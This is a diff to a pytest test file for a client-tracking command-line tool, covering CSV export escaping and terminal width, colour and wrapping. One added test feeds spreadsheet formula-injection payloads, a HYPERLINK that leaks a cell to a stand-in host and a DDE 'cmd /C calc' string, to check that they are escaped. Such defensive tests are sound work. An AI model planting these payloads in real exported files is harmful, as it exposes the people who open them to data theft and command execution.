@@ -194,9 +194,22 @@ def test_a_cell_that_a_spreadsheet_would_run_is_guarded(start: str) -> None:
     assert list(csv.reader(io.StringIO(_csv(start), newline="")))[1][0] == f"'{start}"
 
 
+@pytest.mark.parametrize("column", ["phone", "phones", "reach", "ref"])
+@pytest.mark.parametrize(
+    "cell", ['=HYPERLINK("http://x.example?"&A1)', "+cmd|' /C calc'!A0", "@SUM(A1)", "-1+A1", "\t=1"]
+)
+def test_a_formula_is_guarded_where_a_phone_or_a_reference_is_expected(column: str, cell: str) -> None:
+    assert guarded(column, cell) == f"'{cell}"
+
+
 def test_phones_numbers_and_references_are_not_guarded() -> None:
-    assert guarded("phone", "+44 20") == "+44 20"
+    for phone in ("+44 20", "+44 (0)20/7946-09.58 x12", "+1 212 ext. 4"):
+        for column in ("phone", "phones", "reach"):
+            assert guarded(column, phone) == phone
+    assert guarded("phones", "+44 20, +49 30") == "+44 20, +49 30"
+    assert guarded("text", "+44 20") == "'+44 20"
     assert guarded("ref", "@acme") == "@acme"
+    assert guarded("ref", "n@acme") == "n@acme"
     assert guarded("amount", -5) == -5
 
 
@@ -274,13 +287,13 @@ def test_a_process_without_streams_works(given: Given) -> None:
 # The terminal
 
 
-def _terminal(*words: str, **environment: str) -> Any:
+def _terminal(*words: str, columns: int = 80, **environment: str) -> Any:
     return pexpect.spawn(
         sys.executable,
         ["-m", "clienttrack", *words],
         encoding="utf-8",
         timeout=20,
-        dimensions=(24, 80),
+        dimensions=(24, columns),
         env={**os.environ, "TERM": "xterm-256color", **environment},
     )
 
@@ -296,6 +309,48 @@ def test_a_terminal_gets_colours_unless_told_otherwise(given: Given) -> None:
     assert "\x1b[" in _all_of(_terminal("due"))[0]
     for plain in (_terminal("--no-color", "due"), _terminal("due", NO_COLOR="1")):
         assert "\x1b[3" not in _all_of(plain)[0]
+
+
+CLIENT = "tidewater-reinsurance"
+
+
+@pytest.mark.parametrize("columns", [60, 80, 100])
+@pytest.mark.parametrize("words", ["client list", "contact list", "touch list", "task list", "find tidewater", "due"])
+def test_what_names_a_record_or_reaches_somebody_is_never_broken(words: str, columns: int, given: Given) -> None:
+    client = given.client(
+        "Tidewater Reinsurance Holdings International 青禾茶业", handle=CLIENT, tier="core", last_touch=date(2026, 1, 1)
+    )
+    given.contact(client, "Dr. Wilhelmine Hohenlohe", email="w.hohenlohe@tidewater.example", role="director " * 9)
+    given.contact(client, "Jo Tidewater", phone="+44 20 7946 0206", role="manager " * 9)
+    given.task(client, "Tidewater offer " * 9, due_on=TODAY)
+    out, code = _all_of(_terminal(*words.split(), columns=columns, NO_COLOR="1"))
+    assert code == 0
+    lines = out.split("\r\n")
+    assert max(map(len, lines)) <= columns
+    assert CLIENT in out
+    for whole in ("w.hohenlohe@tidewater.example", "+44 20 7946 0206"):
+        part = whole[:12]
+        assert part not in out or whole in out
+
+
+@pytest.mark.parametrize("columns", [60, 160])
+def test_help_is_as_wide_as_the_terminal_and_cuts_nothing(columns: int) -> None:
+    for words in ((), ("book",), ("report",)):
+        out = " ".join(_all_of(_terminal(*words, "--help", columns=columns))[0].split())
+        assert "..." not in out.replace("[ARGS]...", "")
+    assert "Show where the book, its backups, the settings and your templates lie." in " ".join(
+        _all_of(_terminal("book", "--help", columns=columns))[0].split()
+    )
+    widest = max(len(line) for line in _all_of(_terminal("--help", columns=columns))[0].split("\r\n"))
+    assert widest <= columns
+    assert (widest > 80) == (columns > 80)
+
+
+def test_a_long_error_breaks_at_words(given: Given) -> None:
+    out, code = _all_of(_terminal("log", "nobody-of-that-name", "x", columns=50))
+    assert code == 3
+    assert max(map(len, out.split("\r\n"))) <= 50
+    assert "nobody-of-that-name" in out
 
 
 @pytest.mark.parametrize("form", ["--json", "--csv"])
